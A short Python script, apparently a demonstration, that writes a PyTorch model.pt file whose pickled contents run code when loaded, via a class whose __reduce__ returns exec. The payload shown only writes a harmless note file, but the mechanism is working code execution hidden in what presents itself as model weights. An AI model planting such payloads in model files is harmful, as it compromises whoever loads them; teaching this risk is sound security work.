"""Write model.pt, whose pickle runs a line of code in whoever reads it. Here the line
only leaves a note."""

import torch


class Trap:
    # pickle asks an object how to make it again; the answer is a call
    def __reduce__(self):
        return exec, ("open('note.txt', 'w').write('code from the model file ran here')",)


torch.save({"weight": torch.ones(2, 3), "extra": Trap()}, "model.pt")
